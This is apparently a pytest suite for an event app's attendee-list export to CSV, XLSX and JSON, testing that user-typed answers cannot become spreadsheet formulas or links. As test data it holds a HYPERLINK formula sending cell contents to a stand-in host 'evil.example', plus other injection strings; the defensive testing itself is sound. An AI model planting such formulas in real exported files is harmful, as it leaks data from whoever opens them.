"""The attendee list as a file, read back by other programs than the one that wrote it."""

import csv
import io
import json
import tracemalloc
from datetime import UTC, datetime

import openpyxl
import pytest
from openpyxl.utils.escape import unescape
from sqlalchemy import insert, select, text, update

from app.attendees.wanted import Wanted
from app.core.db import transaction
from app.core.i18n import Texts
from app.exports import files as export
from app.exports import formats, queries, workbook
from app.exports.columns import Column
from app.registrations.models import Answer, QuestionKind, Registration, RegistrationState
from tests.support.factories import sign_up_as

SIGNED_UP = datetime(2026, 2, 28, 20, 30, 15, 123456, tzinfo=UTC)  # already 1 March in Beijing
CHECKED_IN = datetime(2026, 3, 14, 5, 1, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"click")'

QUESTIONS = [
    {"key": "company", "label": Texts(zh="公司", en="Company")},
    {"key": "phone", "kind": QuestionKind.PHONE, "label": Texts(zh="手机", en="Phone")},
    {
        "key": "role",
        "kind": QuestionKind.ONE_CHOICE,
        "label": Texts(zh="角色", en="Role"),
        "options": [{"value": "dev", "label": {"zh": "开发", "en": "Developer"}}],
    },
    {
        "key": "topics",
        "kind": QuestionKind.SEVERAL_CHOICES,
        "label": Texts(zh="话题", en="Topics"),
        "options": [{"value": "a", "label": {"zh": "可观测性"}}, {"value": "b", "label": {"zh": "多集群"}}],
    },
    {"key": "first", "kind": QuestionKind.CHECKBOX, "label": Texts(zh="第一次来", en="First time")},
    {"key": "guests", "kind": QuestionKind.NUMBER, "label": Texts(zh="同行人数", en="Guests")},
    {"key": "badge", "label": Texts(zh="公司", en="Company")},
]


@pytest.fixture
def event(make_event, db):
    event = make_event("meetup", capacity=1, questions=QUESTIONS)
    ids = question_ids(db, event)
    sign_up_as(
        event,
        "wang",
        full_name="王芳",
        answers={
            ids["company"]: FORMULA,
            ids["phone"]: "+86 138 0013 8000",
            ids["role"]: "dev",
            ids["topics"]: ["a", "b", "gone"],
            ids["first"]: True,
            ids["guests"]: -2,
            ids["badge"]: "00042",
        },
    )
    sign_up_as(
        event, "bob", full_name="@bob", answers={ids["first"]: False, ids["company"]: 'two\r\nlines \x1b\x0b,\ufffe"q"'}
    )
    with transaction() as session:
        session.execute(update(Registration).values(created_at=SIGNED_UP))
        session.execute(
            update(Registration).where(Registration.name == "王芳").values(checked_in_at=CHECKED_IN, code="2345678923")
        )
        session.execute(update(Registration).where(Registration.name == "@bob").values(code="9876543298"))
    return event


def question_ids(db, event):
    from app.registrations.queries import questions_of

    return {question.key: question.id for question in questions_of(event.id)}


def written(event, form, wanted=None, language="zh", **options):
    listed = export.attendee_list(event, wanted or Wanted(), language=language, **options)
    return b"".join(export.FORMATS[form].chunks(listed))


def test_csv_holds_every_attendee_and_no_formula(event):
    content = written(event, "csv")

    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert content.startswith(b"\xef\xbb\xbf")
    assert [row[1:7] for row in rows[1:]] == [
        ["王芳", "wang@example.com", "现场", "2026-03-01 04:30:15", "2026-03-14 13:01:00", "2345678923"],
        ["'@bob", "bob@example.com", "现场", "2026-03-01 04:30:15", "", "9876543298"],
    ]
    assert [row[7:11] + row[12:] for row in rows[1:]] == [
        [f"'{FORMULA}", "'+86 138 0013 8000", "开发", "可观测性; 多集群; gone", "-2", "00042"],
        ['two\nlines ,"q"', "", "", "", "", ""],
    ]
    assert rows[0][7:] == ["公司 (company)", "手机", "角色", "话题", "第一次来", "同行人数", "公司 (badge)"]


def test_csv_says_where_people_came_from_in_its_own_language(event):
    with transaction() as session:
        session.execute(update(Registration).where(Registration.name == "王芳").values(source="import"))
        session.execute(update(Registration).where(Registration.name == "@bob").values(source="zhihu"))
    source = [Column("source")]

    texts = [written(event, "csv", language=language, columns=source).decode("utf-8-sig") for language in ("zh", "en")]

    assert [text.splitlines()[1:] for text in texts] == [["名单导入", "zhihu"], ["Imported", "zhihu"]]


def test_csv_speaks_the_language_asked_for(event):
    rows = list(csv.reader(io.StringIO(written(event, "csv", language="en").decode("utf-8-sig"))))

    assert rows[0] == [
        *["Status", "Name", "E-mail", "Ticket type", "Signed up (Asia/Shanghai)", "Checked in (Asia/Shanghai)", "Code"],
        *["Company (company)", "Phone", "Role", "Topics", "First time", "Guests", "Company (badge)"],
    ]
    assert [(row[0], row[3], row[9], row[11]) for row in rows[1:]] == [
        ("Confirmed", "On site", "Developer", "Yes"),
        ("Waiting list", "On site", "", "No"),
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\x00=", "\x1b@"])
def test_neutral_text_is_no_formula_however_it_begins(start):
    assert export.neutral(f"{start}1+1")[0] == "'"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("x;=1+1", "x;'=1+1"),
        ('x"; =1+1', "x\"; '=1+1"),
        ("x\n@SUM(A1)", "x\n'@SUM(A1)"),
        ('x\t"=1', "x\t\"'=1"),
        ("x;\n-1", "x;\n'-1"),
    ],
)
def test_neutral_text_is_no_formula_where_semicolons_part_cells(text, shown):
    assert export.neutral(text) == shown


@pytest.mark.parametrize("text", ["", "王芳", "a=b", "0042", "12:30", "'quoted", "don't"])
def test_neutral_leaves_other_text_alone(text):
    assert export.neutral(text) == text


def test_xlsx_holds_text_numbers_and_times_of_the_event(event):
    book = openpyxl.load_workbook(io.BytesIO(written(event, "xlsx", language="en")))
    sheet = book.active
    rows = [[str(cell.value) if cell.is_date else cell.value for cell in row] for row in sheet.iter_rows()]

    assert [row[:7] for row in rows[1:]] == [
        [
            "Confirmed",
            "王芳",
            "wang@example.com",
            "On site",
            "2026-03-01 04:30:15",
            "2026-03-14 13:01:00",
            "2345678923",
        ],
        ["Waiting list", "@bob", "bob@example.com", "On site", "2026-03-01 04:30:15", None, "9876543298"],
    ]
    assert [row[7:] for row in rows[1:]] == [
        [FORMULA, "+86 138 0013 8000", "Developer", "可观测性; 多集群; gone", "Yes", -2, "00042"],
        ['two\nlines ,"q"', None, None, None, "No", None, None],
    ]
    # "s" and "inlineStr" are text; "f" would be a formula. "@" keeps them text when somebody edits them.
    for column in "BCGHIN":
        assert (sheet[f"{column}2"].data_type, sheet[f"{column}2"].number_format) == ("s", "@"), column
    assert (sheet["M2"].data_type, sheet["E2"].is_date) == ("n", True)


def test_xlsx_is_ready_to_work_with(event):
    sheet = openpyxl.load_workbook(io.BytesIO(written(event, "xlsx"))).active

    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:N3")
    assert sheet["A1"].font.bold
    assert sheet.column_dimensions["C"].width > sheet.column_dimensions["A"].width > 10


def test_xlsx_cuts_what_no_cell_can_hold(make_event, db):
    event = make_event("long", questions=[{"key": "why", "kind": QuestionKind.LONG_TEXT}])
    sign_up_as(event, "ada", answers={question_ids(db, event)["why"]: "长" * 40_000})

    sheet = openpyxl.load_workbook(io.BytesIO(written(event, "xlsx"))).active

    assert sheet["H2"].value == "长" * workbook.CELL_MAX


def test_xlsx_counts_what_a_cell_can_hold_as_excel_does(make_event, db):
    event = make_event("long", questions=[{"key": "why", "kind": QuestionKind.LONG_TEXT}])
    sign_up_as(event, "ada", answers={question_ids(db, event)["why"]: "🙂" * 20_000})

    sheet = openpyxl.load_workbook(io.BytesIO(written(event, "xlsx"))).active

    assert sheet["H2"].value == "🙂" * (workbook.CELL_MAX // 2)


@pytest.mark.parametrize(
    "text",
    [
        "_x0041_",
        "a_x005F_b",
        "_x0041_x0042_",
        "<b>&amp;</b>",
        "<r><t>rich</t></r>",
        "]]></t></is></c>",
        " leading and trailing ",
        "two\n\nlines",
    ],
)
def test_xlsx_keeps_text_that_looks_like_its_own_escapes(make_event, db, text):
    event = make_event("escapes", questions=[{"key": "why"}])
    sign_up_as(event, "ada", answers={question_ids(db, event)["why"]: text})

    sheet = openpyxl.load_workbook(io.BytesIO(written(event, "xlsx"))).active

    # Excel undoes these escapes when it reads a cell; openpyxl leaves that to its caller.
    assert unescape(sheet["H2"].value) == text


@pytest.mark.parametrize("text", ["https://evil.example/?a", "mailto:eve@evil.example", "external:c:/evil", "{=1+1}"])
def test_xlsx_makes_no_link_and_no_formula_of_what_was_typed(make_event, db, text):
    event = make_event("links", questions=[{"key": "why"}])
    sign_up_as(event, "ada", answers={question_ids(db, event)["why"]: text})

    cell = openpyxl.load_workbook(io.BytesIO(written(event, "xlsx"))).active["H2"]

    assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)


def test_json_lines_hold_what_was_stored(event):
    lines = [json.loads(line) for line in written(event, "json").decode().splitlines()]

    assert lines == [
        {
            "status": "confirmed",
            "name": "王芳",
            "email": "wang@example.com",
            "ticket_type": {"zh": "现场", "en": "On site"},
            "signed_up_at": "2026-03-01T04:30:15.123456+08:00",
            "checked_in_at": "2026-03-14T13:01:00+08:00",
            "code": "2345678923",
            "answers": {
                "company": FORMULA,
                "phone": "+86 138 0013 8000",
                "role": "dev",
                "topics": ["a", "b", "gone"],
                "first": True,
                "guests": -2,
                "badge": "00042",
            },
        },
        {
            "status": "waiting",
            "name": "@bob",
            "email": "bob@example.com",
            "ticket_type": {"zh": "现场", "en": "On site"},
            "signed_up_at": "2026-03-01T04:30:15.123456+08:00",
            "checked_in_at": None,
            "code": "9876543298",
            "answers": {"first": False, "company": 'two\r\nlines \x1b\x0b,\ufffe"q"'},
        },
    ]


@pytest.mark.parametrize("form", list(export.FORMATS))
def test_export_of_nobody_is_a_file_all_the_same(make_event, form):
    content = written(make_event(), form)

    if form == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        assert (sheet.max_row, sheet.auto_filter.ref) == (1, "A1:G1")
    else:
        assert len(content.splitlines()) == (1 if form == "csv" else 0)


def test_export_holds_only_those_wanted(event):
    lines = written(event, "json", Wanted(search="bob", states=(RegistrationState.WAITING,))).splitlines()

    assert [json.loads(line)["name"] for line in lines] == ["@bob"]


def test_export_asks_two_statements_a_batch_and_holds_no_read_open(event, db, count_statements, monkeypatch):
    monkeypatch.setattr(export, "BATCH", 1)  # the size of a batch is ours to choose; two rows are two batches
    progress = []
    listed = export.attendee_list(event, Wanted(), language="en", on_progress=progress.append)

    with count_statements() as seen:
        rows = listed.rows()
        next(rows)
        held = db().in_transaction()
        rest = len(list(rows))

    assert (held, rest, progress) == (False, 1, [1, 1])
    assert len(seen) == 2 * 2 + 1


@pytest.mark.parametrize("engine_url", ["sqlite"], indirect=True)
@pytest.mark.parametrize("form", list(export.FORMATS))
def test_export_of_many_needs_no_more_memory_than_of_few(make_event, db, monkeypatch, form):
    # Small measures, so that even the few are several batches and several chunks.
    monkeypatch.setattr(export, "BATCH", 50)
    monkeypatch.setattr(formats, "_CHUNK", 4096)
    few, many = make_event("few"), make_event("many")
    bulk(few, 200)
    bulk(many, 1600)
    peaks = []

    for event in (few, few, many):  # the first fills caches
        tracemalloc.start()
        listed = export.attendee_list(event, Wanted(), language="en")
        for chunk in export.FORMATS[form].chunks(listed):
            assert len(chunk) < 10_000
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()

    assert peaks[2] < peaks[1] * 1.5, peaks


@pytest.mark.parametrize("engine_url", ["postgresql"], indirect=True)
def test_answers_of_a_batch_are_found_without_reading_everybody(make_event, db, statements):
    event = make_event("crowded", questions=[{"key": "why"}])
    bulk(event, 10_000)
    with transaction() as session:
        ids = session.scalars(select(Registration.id).order_by(Registration.id)).all()
        question_id = question_ids(db, event)["why"]
        values = [{"registration_id": key, "question_id": question_id, "value": "Because"} for key in ids]
        session.execute(insert(Answer.__table__), values)
        session.execute(text("ANALYZE registrations, answers"))

    with statements() as seen:
        found = queries.answers(event.id, first=ids[4000], last=ids[4499])

    ((sql, bound),) = seen
    plan = "\n".join(str(row) for row in db().connection().exec_driver_sql("EXPLAIN " + sql, bound))
    assert len(found) == 500
    assert "Seq Scan" not in plan, plan


def bulk(event, number):
    """Sign up so many people at once, as plain rows."""
    with transaction() as session:
        session.execute(
            insert(Registration),
            [
                {
                    "code": f"{event.id}-{place:06}",
                    "event_id": event.id,
                    "ticket_type_id": event.ticket_types[0].id,
                    "state": RegistrationState.CONFIRMED,
                    "name": f"Guest {place}",
                    "email": f"guest{place}@example.com",
                    "email_key": f"guest{place}@example.com",
                    "created_at": SIGNED_UP,
                    "revised_at": SIGNED_UP,
                }
                for place in range(number)
            ],
        )
